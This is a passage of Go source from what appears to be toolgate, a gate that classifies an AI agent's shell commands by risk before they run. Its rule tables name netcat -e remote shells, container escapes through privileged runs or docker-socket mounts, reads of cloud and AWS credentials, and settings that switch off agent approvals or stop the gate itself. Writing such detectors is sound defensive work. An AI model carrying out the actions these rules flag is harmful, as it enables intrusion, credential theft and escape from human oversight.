// '{"permissions":{"defaultMode":"bypassPermissions"}}').
func bypassesPermissions(v string) bool {
	return strings.Contains(strings.ToLower(v), "bypasspermissions")
}

// yoloMode: Gemini CLI's approval mode that approves every tool call.
func yoloMode(v string) bool { return strings.EqualFold(v, "yolo") }

// fullAccess: Codex's sandbox mode without a sandbox, given as the mode
// (-s danger-full-access) or as a setting (-c sandbox_mode="danger-full-access").
func fullAccess(v string) bool { return strings.Contains(strings.ToLower(v), "danger-full-access") }

// ctrRun is containerd's ctr run: a privileged container or the host's
// namespaces.
var ctrRun = &cmdSpec{opts: []optEffect{{names: []string{"--privileged", "--net-host", "--privileged-without-host-devices"}, effect: EffectPrivilege, class: ClassPrivilege, why: "runs a container with root's powers on the host or the host's network"}}}

// azVaultRead is az keyvault secret|key|certificate: show, download and
// backup print or save the secret (a vault's own "show" is its metadata).
var azVaultRead = &cmdSpec{opts: []optEffect{{names: []string{"show", "download", "backup"}, operand: true, class: ClassCredential, why: "prints or saves a Key Vault secret, key or certificate"},
	{names: []string{"delete", "purge"}, operand: true, class: ClassDestructive, why: "deletes cloud resources"}}}

// The reasons shared by a risk and its by-name form (stopsGate and
// stopsNamedGate): constants, so the entries stay data the linker lays
// out instead of values copied at start-up.
const (
	stopsGateWhy   = "stops toolgate, the gate that vets the agent's calls"
	killsAgentsWhy = "kills the AI agents' processes, the user's sessions among them"
)

// dockerRunLong are docker/podman run's long options, the command's and
// its wrapper form's (dockerRunOpts).
var dockerRunLong = []string{"privileged", "volume=", "mount=", "pid=", "network=", "net=", "ipc=", "userns=", "uts=", "cap-add=", "security-opt=",
	"device=", "user=", "name=", "env=", "env-file=", "workdir=", "entrypoint=", "publish=", "rm", "interactive", "tty", "detach",
	"label=", "hostname=", "restart=", "platform=", "pull=", "init", "read-only", "memory=", "cpus=", "gpus=", "group-add="}

// dockerRun is docker/podman run and create: privileged containers and
// host mounts of / escape the container.
var dockerRun = &cmdSpec{
	long:     dockerRunLong,
	shortVal: "vewpuh", effect: EffectRuns,
	opts: []optEffect{
		{names: []string{"--privileged"}, effect: EffectPrivilege, class: ClassPrivilege, why: "runs a privileged container, which has root's powers on the host"},
		{names: []string{"--pid=host", "--ipc=host", "--userns=host", "--uts=host", "--cap-add=ALL", "--cap-add=SYS_ADMIN", "--security-opt=apparmor=unconfined", "--security-opt=seccomp=unconfined", "--device="},
			prefix: true, effect: EffectPrivilege, class: ClassPrivilege, why: "shares the host's processes or kernel powers with a container"},
		{names: []string{"-v/:", "--volume=/:", "-v/etc", "--volume=/etc", "-v/var/run/docker.sock", "--volume=/var/run/docker.sock", "-v/root", "--volume=/root", "--mount=type=bind,source=/,", "--mount=type=bind,src=/,"},
			prefix: true, effect: EffectPrivilege, class: ClassPrivilege, why: "mounts the host's root, /etc or the docker socket into a container"},
		{names: []string{"-v", "--volume", "--mount"}, value: mountsSecret, class: ClassCredential, why: "mounts the home directory or a credential directory into a container"},
		{names: []string{"--net", "--network"}, value: isHost, effect: EffectPrivilege, class: ClassPrivilege, why: "shares the host's network with a container, which reaches every local service"},
	},
}

// resolveLong resolves a long option ("--forc", "--out=x") against the
// spec's long options as GNU getopt_long does: an exact name wins, else
// the one option it is a unique prefix of. It returns the canonical
// option ("--force", "--output=x") and whether it is known. An ambiguous
// or unknown abbreviation is returned unchanged.
func resolveLong(long []string, arg string) (string, bool) {
	name, val, hasEq := strings.Cut(arg[2:], "=")
	if name == "" {
		return arg, false
	}
	found := ""
	for _, l := range long {
		l = strings.TrimSuffix(l, "=")
		if l == name {
			return arg, true
		}
		if strings.HasPrefix(l, name) {
			if found != "" && found != l {
				return arg, false // ambiguous: the command refuses it
			}
			found = l
		}
	}
	if found == "" {
		return arg, false
	}
	if hasEq {
		return "--" + found + "=" + val, true
	}
	return "--" + found, true
}

// takesValue reports whether long option name (canonical, no dashes)
// takes a value.
func (s *cmdSpec) takesValue(name string) bool {
	for _, l := range s.long {
		if strings.HasSuffix(l, "=") && l[:len(l)-1] == name {
			return true
		}
	}
	return false
}

// operands returns the operands of args: the words that are not options
// or option values.
func (s *cmdSpec) operands(args []string) []int {
	_, ops := s.scan(args, false)
	return ops
}

// setuidMode reports whether a chmod mode sets the setuid or setgid bit:
// u+s, g+s, +s, 4755, 2755, 6755.
func setuidMode(m string) bool {
	if len(m) == 4 && m[0] >= '0' && m[0] <= '7' && strings.Trim(m, "01234567") == "" {
		return (m[0]-'0')&6 != 0
	}
	for _, part := range strings.Split(m, ",") {
		if i := strings.IndexAny(part, "+="); i >= 0 && strings.IndexByte(part[i:], 's') >= 0 && !strings.Contains(part[:i], "o") {
			return true
		}
	}
	return false
}

// rootOwner reports whether a chown owner[:group] names root.
func rootOwner(o string) bool {
	u, _, _ := strings.Cut(o, ":")
	return u == "root" || u == "0"
}

// sub finds the subcommand of args for a spec with subcommands: the first
// operand (after git's global options). It returns the sub-spec and the
// arguments after it.
func (s *cmdSpec) sub(name string, args []string) (*cmdSpec, string, []string) {
	if len(s.subs) == 0 {
		return nil, "", nil
	}
	i := s.firstOperand(args)
	if i >= len(args) {
		return nil, "", nil
	}
	ss := s.subs.get(args[i])
	if ss == nil && i > 0 && undeclaredOption(args[i-1]) {
		// An option the table does not declare may take a value
		// ("kubectl --kubeconfig F -n prod delete"): each operand
		// after such an option may be its value, so the first later
		// one that is a subcommand is taken, and its effects count
		// (fail closed).
		for k := i + 1; k < len(args) && args[k] != "--"; k++ {
			if strings.HasPrefix(args[k], "-") {
				continue
			}
			if ss = s.subs.get(args[k]); ss != nil {
				return ss, args[k], args[k+1:]
			}
			if !undeclaredOption(args[k-1]) {
				break
			}
		}
	}
	if ss == nil {
		return nil, "", nil
	}
	return ss, args[i], args[i+1:]
}

// undeclaredOption reports whether a word is an option whose value, if
// it takes one, is not attached to it: "-x", "--name", not "--name=v",
// "--" or "-".
func undeclaredOption(a string) bool {
	return len(a) > 1 && a[0] == '-' && a != "--" && strings.IndexByte(a, '=') < 0
}

// classify finds the effects and risk classes of a command from the
// command table. args are the words after the name as written.
func classify(cmd *Command, name string, args []string) {
	classifyWords(cmd, name, rolesOf(name), args, nil)
}

// classifyWords is classify with, in dyn, which of args are values known
// only when the command runs ($(…), `…`, $X; DESIGN §3.1): such a word
// stands for any word, so every class it may give the command counts
// (an option it may be, an operand or value a class matches); in a
// subcommand's place it makes the command opaque. r is name's roles
// (rolesOf).
func classifyWords(cmd *Command, name string, r role, args []string, dyn []dynWord) {
	if m, rest, ok := runsPackage(name, r, args); ok && commandSpec(m) != nil {
		name, args = m, rest // python -m pip install … is pip install …
		dyn = nil
	}
	s := commandSpec(name)
	if s == nil {
		return
	}
	off := 0 // args[0] is the off-th word of dyn
	isDyn := func(i int) bool { return dyn != nil && off+i < len(dyn) && dyn[off+i] != notDyn }
	isToken := func(i int) bool { return dyn != nil && off+i < len(dyn) && dyn[off+i] == dynToken }
	anyDyn := func() bool {
		for i := range args {
			if isDyn(i) {
				return true
			}
		}
		return false
	}
	label := name
	// The one parser's reading of each level's words, in buffers that
	// stay on the stack for a command line of a few options.
	var optBuf [16]optArg
	var opBuf [16]int
	for depth := 0; s != nil && depth < 4; depth++ {
		// A wrapper's options end at the command it runs (sudo -v is
		// sudo's, docker run -v/:/h is not).
		cmd.Effects |= s.effect
		var opts []optArg
		var ops []int
		if s.class != "" || s.hasRiskOpts() || len(s.subs) > 0 && dyn != nil {
			opts, ops = s.scanInto(args, nil, s.wraps || s.inOrder, optBuf[:0], opBuf[:0])
			opts = s.valueOptions(args, opts)
		}
		if len(s.subs) > 0 && len(ops) > 0 && isDyn(ops[0]) {
			// Which subcommand runs is known only then (git $(…)).
			cmd.Opaque = true
		}
		mayOpt := anyDyn()
		if s.class != "" && !s.excused(opts, ops, args) && !(s.bare && len(args) == 0) {
			addClass(cmd, ClassRisk{Class: s.class, Reason: label + " " + s.why, Token: label})
		}
		dry := s.dryRunGiven(opts, args)
		for _, o := range s.opts {
			if o.class == "" && o.effect == 0 {
				continue // an exec or file effect, read elsewhere
			}
			if dry && o.class == ClassDestructive {
				continue // rsync --delete -n: it only shows what it would delete
			}
			if o.when != nil && !o.when(normaliseArgs(label, args)) {
				// A gate over the whole argument list (code: git config's
				// set form, pkill -f): it reads the words, abbreviations
				// resolved.
				continue
			}
			if o.operand {
				cand := ops
				if o.paths && len(cand) > 0 && s.pattern && !s.patternGiven(opts) {
					cand = cand[1:]
				}
				for k, i := range cand {
					if o.sources && k == len(cand)-1 || o.first && k > 0 {
						break
					}
					if isDyn(i) && !(o.written && !strings.Contains(args[i], "$((")) && !(numberWord(args[i]) && !o.matchesNumber()) {
						cmd.Effects |= o.effect
						addClass(cmd, ClassRisk{Class: o.class, Reason: label + " " + args[i] + ", known only when it runs, may be an operand that " + o.why, Token: args[i]})
						break
					}
					if o.matchOperand(args[i]) {
						cmd.Effects |= o.effect
						addClass(cmd, ClassRisk{Class: o.class, Reason: label + " " + args[i] + " " + o.why, Token: urlToken(args[i])})
						break
					}
				}
				continue
			}
			if o.value != nil {
				if n, v, ok := valueFound(opts, o); ok {
					cmd.Effects |= o.effect
					addClass(cmd, ClassRisk{Class: o.class, Reason: label + " " + n + " " + o.why + ": " + clip(v, 60), Token: n})
				} else if n, v, ok := dynValue(opts, o, isDyn); ok {
					cmd.Effects |= o.effect
					addClass(cmd, ClassRisk{Class: o.class, Reason: label + " " + n + " " + v + ", known only when it runs, may be a value that " + o.why, Token: v})
				}
				continue
			}
			found := false
			for _, n := range o.names {
				if w, ok := optFound(opts, args, n, o.prefix); ok {
					cmd.Effects |= o.effect
					addClass(cmd, ClassRisk{Class: o.class, Reason: label + " " + w + " " + o.why, Token: w})
					found = true
					break
				}
			}
			if !found && mayOpt && len(o.names) > 0 && strings.HasPrefix(o.names[0], "-") {
				// A word known only when it runs may be the option.
				for i := range args {
					if isDyn(i) && !isToken(i) && !(numberWord(args[i]) && !numericOption(o.names)) {
						cmd.Effects |= o.effect
						addClass(cmd, ClassRisk{Class: o.class, Reason: label + " " + args[i] + ", known only when it runs, may be " + o.names[0] + ", which " + o.why, Token: args[i]})
						break
					}
				}
			}
		}
		next, word, rest := s.sub(name, args)
		if next == nil {
			return
		}
		label += " " + word
		off += len(args) - len(rest)
		s, args = next, args[len(args)-len(rest):]
	}
}

// dynValue returns an option of e.names given with a value known only
// when the command runs, which e.value may match.
func dynValue(opts []optArg, e optEffect, isDyn func(int) bool) (string, string, bool) {
	for _, o := range opts {
		if o.assign || !contains(e.names, o.name) || o.valAt < 0 {
			continue
		}
		// An attached value ("--opt=$(…)") is read from its text: a quoted
		// '$(…)' counts too (fail closed).
		if o.valAt == o.at && substituted(o.val) || o.valAt != o.at && isDyn(o.valAt) {
			return o.name, o.val, true
		}
	}
	return "", "", false
}

// hasRiskOpts reports whether an option or operand of s has an effect or
// a risk class (the others are read by the exec and file checks).
func (s *cmdSpec) hasRiskOpts() bool {
	for k := range s.opts {
		if s.opts[k].class != "" || s.opts[k].effect != 0 {
			return true
		}
	}
	return false
}

// valueOptions adds to opts the options a separate value word spells
// ("git push -o -f": -f is push -o's value, or the table may be wrong
// about -o taking one): a risk counts whichever way the word is read
// (fail closed).
func (s *cmdSpec) valueOptions(args []string, opts []optArg) []optArg {
	n := len(opts)
	for k := 0; k < n; k++ {
		o := opts[k]
		if o.valAt <= o.at || len(args[o.valAt]) < 2 || args[o.valAt][0] != '-' || args[o.valAt] == "--" {
			continue
		}
		end := min(o.valAt+2, len(args))
		more, _ := s.scan(args[o.valAt:end], false)
		for _, m := range more {
			if m.at != 0 {
				continue
			}
			m.at += o.valAt
			if m.valAt >= 0 {
				m.valAt += o.valAt
			}
			opts = append(opts, m)
		}
	}
	return opts
}

// optFound reports whether the parser found option n among opts ("-f",
// also inside a cluster; "--force"; with prefix, a spelling with its
// value: "--pid=host", "-v/:" for "-v /:/h"). It returns the words as
// written, the token a rule must name. An abbreviation the table cannot
// resolve that may stand for n counts (fail closed): "--forc" when the
// entry does not list --force.
func optFound(opts []optArg, args []string, n string, prefix bool) (string, bool) {
	for _, o := range opts {
		if o.assign {
			continue
		}
		if w := args[o.at]; o.name == n || len(n) > 2 && (w == n || strings.HasPrefix(w, n+"=") || prefix && strings.HasPrefix(w, n)) {
			// The option, or the word as written spelling it: a one-dash
			// long option of a command that takes both kinds (terraform
			// -auto-approve, -destroy=true), a long option the table
			// does not list ("--vacuum-size=1").
			return w, true
		}
		if !prefix {
			if len(o.name) > 3 && o.valAt < 0 && strings.HasPrefix(n, "--") && strings.HasPrefix(n, o.name) {
				return args[o.at], true // an abbreviation the table does not know
			}
			continue
		}
		if o.valAt < 0 || !strings.HasPrefix(n, o.name) {
			continue
		}
		sep := "="
		if len(o.name) == 2 && o.name[1] != '-' {
			sep = ""
		}
		if strings.HasPrefix(o.name+sep+o.val, n) {
			if o.valAt != o.at {
				return args[o.at] + " " + args[o.valAt], true
			}
			return args[o.at], true
		}
	}
	return "", false
}

// valueFound returns the first option of e.names among opts whose value
// e.value accepts, with its name and value.
func valueFound(opts []optArg, e optEffect) (string, string, bool) {
	for _, o := range opts {
		if o.assign || !contains(e.names, o.name) {
			continue // without a value, the test sees "" (make --eval at the end)
		}
		if e.value(o.val) {
			return o.name, o.val, true
		}
	}
	return "", "", false
}

// patternGiven reports whether an option among opts gives the pattern
// (an option effect marked pattern: grep -e, sed -f), so the first
// operand is a file.
func (s *cmdSpec) patternGiven(opts []optArg) bool {
	for _, o := range opts {
		for k := range s.opts {
			if e := &s.opts[k]; e.pattern && contains(e.names, o.name) {
				return true
			}
		}
	}
	return false
}

// excused reports whether an option or operand in unless makes the
// command harmless (crontab -l), or the command only prints its usage
// (--help): opts and ops are the parser's reading of args.
func (s *cmdSpec) excused(opts []optArg, ops []int, args []string) bool {
	for _, o := range opts {
		if o.name == "--help" {
			return true // prints the usage and does nothing else
		}
	}
	for _, u := range s.rareFields().unless {
		for _, o := range opts {
			// The word as written ("-l", not a letter of "-rl"), or a
			// long option resolved ("--li" for --list).
			if !o.assign && (args[o.at] == u || len(o.name) > 2 && o.name[1] == '-' && o.name == u) && !withdrawn(o, args) {
				return true
			}
		}
		for _, i := range ops {
			if args[i] == u {
				return true
			}
		}
	}
	return false
}

// dryRunGiven reports whether one of the options with which the command
// changes nothing is given and not withdrawn.
func (s *cmdSpec) dryRunGiven(opts []optArg, args []string) bool {
	for _, d := range s.rareFields().dryRun {
		for _, o := range opts {
			if !o.assign && !o.ambiguous && o.name == d && !withdrawn(o, args) {
				return true
			}
		}
	}
	return false
}

// withdrawn reports whether the excusing option o is turned off as the
// command reads it: a false value ("--dry-run=false", npm's "--dry-run
// false") or a later negation ("--dry-run --no-dry-run": the last wins).
func withdrawn(o optArg, args []string) bool {
	falsy := func(v string) bool {
		switch strings.ToLower(strings.Trim(v, `'"`)) {
		case "false", "0", "no", "off", "n":
			return true
		}
		return false
	}
	if o.valAt == o.at && o.val != "" && falsy(o.val) || o.valAt < 0 && o.at+1 < len(args) && falsy(args[o.at+1]) {
		return true
	}
	if len(o.name) > 2 && o.name[1] == '-' {
		neg := "--no-" + o.name[2:]
		for _, a := range args[o.at+1:] {
			if n, _, _ := strings.Cut(a, "="); n == neg {
				return true
			}
		}
	}
	return false
}

// matchOperand reports whether an operand matches the effect's names.
func (o *optEffect) matchOperand(a string) bool {
	if o.match != nil {
		return o.match(a)
	}
	for _, n := range o.names {
		if a == n || o.prefix && strings.HasPrefix(a, n) {
			return true
		}
	}
	return false
}

// longOptions returns one command's long options, by command ("rg") or
// command and subcommand ("git push"): the entry's own and the long names
// of its option effects from the command table, and the wrapper's, so an
// abbreviation resolves the same way for every check. Only the asked
// command's entry is read.
func longOptions(key string) []string {
	var out []string
	add := func(names ...string) {
		for _, n := range names {
			n = strings.TrimPrefix(n, "--")
			if n != "" && !contains(out, n) {
				out = append(out, n)
			}
		}
	}
	// The command table, descending through subcommands word by word.
	words := strings.Split(key, " ")
	s := commandSpec(words[0])
	for _, w := range words[1:] {
		if s == nil {
			break
		}
		s = s.subs.get(w)
	}
	if s != nil {
		add(s.long...)
	}
	return out
}

// normaliseArgs resolves abbreviated long options in args for command key
// ("rg", "git push"); for git, the arguments after the subcommand resolve
// against the subcommand's options. It returns args itself when nothing
// changed, so a command without abbreviations costs no allocation.
func normaliseArgs(key string, args []string) []string {
	out := args
	from := 0
	name, rest, isSub := strings.Cut(key, " ")
	s := commandSpec(name)
	for isSub && s != nil {
		// "pip install": the subcommand's own long options.
		var w string
		w, rest, isSub = strings.Cut(rest, " ")
		s = s.subs.get(w)
	}
	if s != nil && key == "git" {
		sub := s.firstOperand(args)
		if sub >= len(args) {
			return args
		}
		s, from = s.subs.get(args[sub]), sub+1
	}
	if s == nil {
		return args
	}
	long := s.long
	for i := from; i < len(args); i++ {
		a := args[i]
		if a == "--" {
			break
		}
		if len(a) < 4 || a[0] != '-' || a[1] != '-' {
			continue
		}
		if r, ok := resolveLongIn(a, long); ok && r != a {
			if len(out) > 0 && &out[0] == &args[0] {
				out = append([]string(nil), args...)
			}
			out[i] = r
		}
	}
	return out
}

// resolveLongIn is resolveLong over several lists of long options at once
// (an entry's, a wrapper's), without gathering them: "x" and "x=" are one
// option, in one list or across them.
func resolveLongIn(arg string, lists ...[]string) (string, bool) {
	name, val, hasEq := strings.Cut(arg[2:], "=")
	if name == "" {
		return arg, false
	}
	for _, list := range lists {
		for _, l := range list {
			if strings.TrimSuffix(l, "=") == name {
				return arg, true
			}
		}
	}
	found := ""
	for _, list := range lists {
		for _, l := range list {
			l = strings.TrimSuffix(l, "=")
			if !strings.HasPrefix(l, name) {
				continue
			}
			if found != "" && found != l {
				return arg, false // ambiguous: the command refuses it
			}
			found = l
		}
	}
	if found == "" {
		return arg, false
	}
	if hasEq {
		return "--" + found + "=" + val, true
	}
	return "--" + found, true
}

// remotePackage reports whether an installer's operand names a package by
// URL, git remote or GitHub shorthand ("user/repo") instead of a registry
// name.
// notLoopback reports whether a listening address is another than this
// machine's loopback (0.0.0.0, a LAN address, a name).
// cutsNetwork is why taking an interface or the networking down is
// destructive: a remote machine cannot be reached to undo it. A constant,
// so that the entries using it need no code at initialisation.
const cutsNetwork = "cuts this machine off the network, which a remote session cannot undo"

// fuserKills reports whether fuser is told to kill (-k, --kill, or a
// cluster holding k).
func fuserKills(args []string) bool {
	for _, a := range args {
		if a == "--kill" || len(a) > 1 && a[0] == '-' && a[1] != '-' && strings.ContainsRune(a, 'k') {
			return true
		}
	}
	return false
}

// fuserSystemTarget reports whether what fuser -k kills the users of is
// a system port (below 1024: sshd's 22, a socket pid 1 may hold) or a
// file or mount; a port of 1024 or more (fuser -k 3000/tcp: a dev server
// left running) is everyday work.
func fuserSystemTarget(a string) bool {
	port, proto, ok := strings.Cut(a, "/")
	if ok && (proto == "tcp" || proto == "udp") {
		n, err := strconv.Atoi(port)
		return err != nil || n < 1024
	}
	return true
}

// foreignScriptURL reports whether an operand is a program's URL on a
// host other than deno's own registries.
func foreignScriptURL(a string) bool {
	if !strings.HasPrefix(a, "https://") && !strings.HasPrefix(a, "http://") {
		return false
	}
	switch URLHost(a) {
	case "deno.land", "jsr.io":
		return false
	}
	return true
}

// publicPort reports whether a port's visibility operand makes it public
// (gh codespace ports visibility 8080:public).
func publicPort(a string) bool { return strings.HasSuffix(strings.ToLower(a), ":public") }

// bindsOpenly reports whether ssh's -D or -L value names a bind address
// other hosts can reach ("0.0.0.0:1080", "*:1080", ":1080", a LAN
// address): a port alone (-D 1080, -L 8080:db:5432) binds loopback.
func bindsOpenly(v string) bool {
	parts := strings.Split(v, ":")
	if len(parts) != 2 && len(parts) != 4 { // [bind:]port for -D, [bind:]port:host:hostport for -L
		return false
	}
	bind := strings.Trim(parts[0], "[]")
	if strings.Contains(bind, "/") {
		return false // a unix socket's path (-L /tmp/a.sock:/run/b.sock)
	}
	return bind == "" || bind == "*" || notLoopback(bind)
}

// syncsElsewhere reports whether an rsync command line names a remote
// operand (host:path, rsync://) or one known only at run time: what its
// --delete deletes is then not a path here.
func syncsElsewhere(args []string) bool {
	for _, a := range args {
		if strings.HasPrefix(a, "-") {
			continue
		}
		if isRemote(a) || strings.Contains(a, "://") || strings.ContainsAny(a, "$`") {
			return true
		}
	}
	return false
}

// withWhen is e gated on the whole argument list.
func withWhen(e optEffect, when func([]string) bool) optEffect {
	e.when = when
	return e
}

// notGhAPI reports whether gh's arguments are not gh api's, whose first
// operand is an endpoint (repos/O/R/actions/secrets), not a file; its
// files are the @FILE values of -F and --input, read as such.
func notGhAPI(args []string) bool { return len(args) == 0 || args[0] != "api" }

// awsCredentialKey reports whether a word names a setting of the AWS
// CLI's configuration that holds a credential (aws configure get
// aws_secret_access_key, profile.dev.aws_session_token); region and
// output are none.
func awsCredentialKey(a string) bool {
	a = strings.ToLower(a)
	return strings.Contains(a, "aws_secret_access_key") || strings.Contains(a, "aws_session_token") ||
		strings.Contains(a, "aws_access_key_id") || strings.Contains(a, "aws_security_token")
}

// secretPath reports whether an operand is a path (it holds a "." or a
// "/") whose last element names a file a project keeps secrets in.
func secretPath(a string) bool {
	return strings.ContainsAny(a, "./") && !strings.Contains(a, "://") && sensitive.SecretName(a)
}

// gitAddForced reports whether git add is told to add ignored files
// (-f, --force, or a cluster holding f).
func gitAddForced(args []string) bool {
	for _, a := range args {
		if a == "--force" || len(a) > 1 && a[0] == '-' && a[1] != '-' && strings.ContainsRune(a, 'f') {
			return true
		}
		if a == "--" {
			break
		}
	}
	return false
}

func notLoopback(a string) bool {
	h := strings.Trim(a, "[]")
	if addr, err := netip.ParseAddr(h); err == nil && addr.IsUnspecified() {
		return true // every interface, to a listener
	}
	return ClassifyHost(h) != HostLoopback
}

func remotePackage(a string) bool {
	for _, p := range urlPrefix {
		if strings.HasPrefix(a, p) {
			return true
		}
	}
	if i := strings.IndexByte(a, '/'); i > 0 && a[0] != '@' && a[0] != '.' && a[0] != '~' && !strings.Contains(a, "==") {
		// npm's "user/repo" and "user/repo#ref" fetch from GitHub; a Go
		// module path ("golang.org/x/tools/...") has a dot in its host.
		// "src/" (nothing after the slash) is no shorthand: a directory.
		return !strings.Contains(a[:i], ".") && strings.Trim(a[i+1:], "/") != ""
	}
	return false
}

// urlToken returns the part of a URL operand a rule must name to cover it:
// the scheme and host ("git+https://github.com"), so a rule for one host
// ("pip install git+https://github.com/me/*") covers its packages.
// Other operands are their own token.
func urlToken(a string) string {
	if i := strings.Index(a, "://"); i >= 0 {
		if j := strings.IndexByte(a[i+3:], '/'); j >= 0 {
			return a[:i+3+j]
		}
		return a
	}
	if strings.HasPrefix(a, "git@") {
		if i := strings.IndexByte(a, ':'); i > 0 {
			return a[:i]
		}
	}
	return a
}

// hasAny reports whether any of opts is among args, as the one parser
// reads them (and as classify matches them: a cluster's letter, an
// option-looking value, an unlisted option spelled out).
func (s *cmdSpec) hasAny(args []string, opts ...string) bool {
	var optBuf [16]optArg
	var opBuf [16]int
	found, _ := s.scanInto(args, nil, s.wraps, optBuf[:0], opBuf[:0])
	found = s.valueOptions(args, found)
	for _, n := range opts {
		if _, ok := optFound(found, args, n, false); ok {
			return true
		}
	}
	return false
}

// dashMode reports whether a chmod argument starting with '-' is a mode
// ("-w", "-rwx"), not an option.
func dashMode(a string) bool {
	return len(a) > 1 && strings.Trim(a[1:], "rwxXst") == ""
}

// ncSpec is netcat: -e/-c hand a program on this machine to the peer.
var ncSpec = &cmdSpec{effect: EffectNetwork, long: []string{"exec=", "sh-exec=", "lua-exec=", "listen", "udp", "verbose"}, shortVal: "ecpswiIOqTxX",
	opts: []optEffect{{names: []string{"-e", "-c", "--exec", "--sh-exec", "--lua-exec"}, effect: EffectRuns, class: ClassExfiltrate, why: "connects a program on this machine to a network peer (a remote shell)"}}}

// killPID reports whether a kill argument starting with '-' is a process
// id ("-1", every process) rather than a signal: a number after the
// signal.
func killPID(a string) bool {
	return a == "-1" || len(a) > 1 && a[1] == '$' && parentProcess(a)
}

// parentProcess reports whether a kill operand is the shell's parent
// ($PPID: the agent, or the gate running the command) or its whole
// process group (0, -$$, -$PPID). The shell itself ($$) is not: killing
// it ends the call.
func parentProcess(a string) bool {
	switch a {
	case "$PPID", "${PPID}", "0", "-$$", "-${$}", "-$PPID", "-${PPID}":
		return true
	}
	return false
}

// stopsServiceWhy: any system service stopped, disabled or masked is down
// for everyone who uses it until someone starts it again (a user's own
// units, systemctl --user, are the user's). A constant: a variable's
// value the tables use is copied into them at start-up.
const stopsServiceWhy = "stops a system service, which stays down for everyone who uses it until someone starts it again"

// More entries of the command table, kept as variables where several
// commands share one.
var (
	mongoSpec = &cmdSpec{effect: EffectNetwork, long: []string{"eval=", "host=", "port=", "username=", "password=", "quiet", "file="},
		opts: []optEffect{{names: []string{"--eval"}, value: sqlDestroys, class: ClassDestructive, why: "runs a script that drops or empties data"}}}
	terraformSpec = &cmdSpec{subs: subcommands{
		{"destroy", &cmdSpec{class: ClassDestructive, why: "destroys the infrastructure the configuration manages"}},
		{"apply", &cmdSpec{opts: []optEffect{{names: []string{"-destroy", "--destroy"}, class: ClassDestructive, why: "destroys the infrastructure the configuration manages"},
			{names: []string{"-auto-approve", "--auto-approve"}, class: ClassDestructive, why: "changes infrastructure without showing the plan for approval"}}}},
		{"state", &cmdSpec{opts: []optEffect{{names: []string{"rm", "push"}, operand: true, class: ClassDestructive, why: "removes resources from or overwrites the state"},
			{names: []string{"pull"}, operand: true, class: ClassCredential, why: "prints the whole state with its sensitive values in plain text"}}}},
		// -json and -raw print sensitive values in plain text.
		{"output", &cmdSpec{opts: []optEffect{{names: []string{"-json", "--json", "-raw", "--raw"}, class: ClassCredential, why: "prints the outputs with their sensitive values in plain text"}}}},
		{"show", &cmdSpec{opts: []optEffect{{names: []string{"-json", "--json"}, class: ClassCredential, why: "prints the state or plan with its sensitive values in plain text"}}}},
		{"workspace", &cmdSpec{opts: []optEffect{{names: []string{"delete"}, operand: true, class: ClassDestructive, why: "deletes a workspace and its state"}}}},
		{"taint", &cmdSpec{class: ClassDestructive, why: "marks a resource to be destroyed and re-created by the next apply"}},
		{"force-unlock", &cmdSpec{class: ClassDestructive, why: "removes the lock another run holds on the state, which two runs may then overwrite"}},
		// atmos terraform deploy is apply -auto-approve.
		{"deploy", &cmdSpec{class: ClassDestructive, why: "changes infrastructure without showing the plan for approval"}},
	}}

	// ghDeletes is a gh command group whose delete verb deletes on
	// GitHub (gh issue delete, gh cache delete --all).
	ghDeletes = &cmdSpec{opts: []optEffect{{names: []string{"delete", "remove"}, operand: true, first: true, class: ClassDestructive, why: ghDeleteWhy}}}
	// vscode is VS Code and the editors built on it: a tunnel exposes the
	// machine, and an extension from a URL runs unreviewed code with the
	// user's rights in every later session (one from the marketplace, by
	// its ID, or a local file is installed as any package is).
	vscode = &cmdSpec{long: []string{"install-extension=", "uninstall-extension=", "extensions-dir=", "user-data-dir=", "profile=", "add-mcp="},
		opts: []optEffect{{names: []string{"--install-extension"}, value: remotePackage, class: ClassSupplyChain, why: "installs an editor extension straight from a URL"},
			{names: []string{"--add-mcp"}, class: ClassTampering, why: agentConfigWhy}},
		subs: subcommands{{"tunnel", &cmdSpec{effect: EffectNetwork, class: ClassExfiltrate, why: "exposes this machine to the internet through a VS Code tunnel", rare: &rareSpec{unless: []string{"status", "user", "--help", "-h"}}}}}}
	// publish uploads the workspace's code to a registry, which cannot be
	// taken back.
	publish = &cmdSpec{effect: EffectNetwork, class: ClassExfiltrate, why: publishWhy, rare: &rareSpec{unless: []string{"--dry-run", "-n"}}}
	// pubSpec is dart's and flutter's package manager (dart pub publish).
	pubSpec = &cmdSpec{subs: subcommands{{"pub", &cmdSpec{subs: subcommands{{"publish", publish}}}}}}
	// mavenSpec: the goals that upload the build's artifacts to a
	// repository (a phase anywhere in the goal list: mvn clean deploy).
	mavenSpec = &cmdSpec{opts: []optEffect{{names: []string{"deploy", "deploy:deploy", "deploy:deploy-file", "release:perform", "nexus-staging:deploy", "nexus-staging:release"},
		operand: true, effect: EffectNetwork, class: ClassExfiltrate, why: publishWhy}}}
	// gradleSpec: the publishing tasks, a project's too (:lib:publish);
	// publishToMavenLocal writes the local repository only.
	gradleSpec = &cmdSpec{opts: []optEffect{{match: gradlePublish, operand: true, effect: EffectNetwork, class: ClassExfiltrate, why: publishWhy}}}
	// pkgRemove is a system package manager: removing packages can take
	// the machine's tools (or its SSH server) away.
	pkgRemove = &cmdSpec{opts: []optEffect{{names: []string{"remove", "purge", "autoremove", "erase", "del"}, operand: true, class: ClassDestructive, why: "removes system packages"}, installsPackageFile}}
	// installsPackageFile is a system package manager's operand that is a
	// package file or URL rather than a package of the distribution's
	// signed archive: its install scripts run as root.
	// texInline: a TeX engine given source on the command line (an
	// argument starting with a backslash) rather than a .tex file.
	texInline           = &cmdSpec{opts: []optEffect{{names: []string{"\\"}, operand: true, prefix: true, class: ClassInlineCode, why: "runs TeX given inline, which reads and writes files no rule can see"}}}
	installsPackageFile = optEffect{match: packageFile, operand: true, class: ClassSupplyChain, why: "installs a package file, not a package of the distribution's archive; its install scripts run as root"}
	// makeSpec: a makefile read from standard input (a here-doc) or rules
	// given by --eval are recipes no rule can read, as python -c is code.
	// azCredentials is az ad sp's and az ad app's: a reset or a new
	// service principal prints its new password.
	azCredentials = &cmdSpec{opts: []optEffect{{names: []string{"create-for-rbac"}, operand: true, class: ClassCredential, why: "creates a service principal and prints its password"}},
		subs: subcommands{{"credential", &cmdSpec{opts: []optEffect{{names: []string{"reset"}, operand: true, class: ClassCredential, why: "resets a service principal's credentials and prints the new password"}}}}}}
	makeSpec = &cmdSpec{shortVal: "fCIoWE", long: []string{"file=", "makefile=", "directory=", "include-dir=", "eval=", "old-file=", "assume-old=",
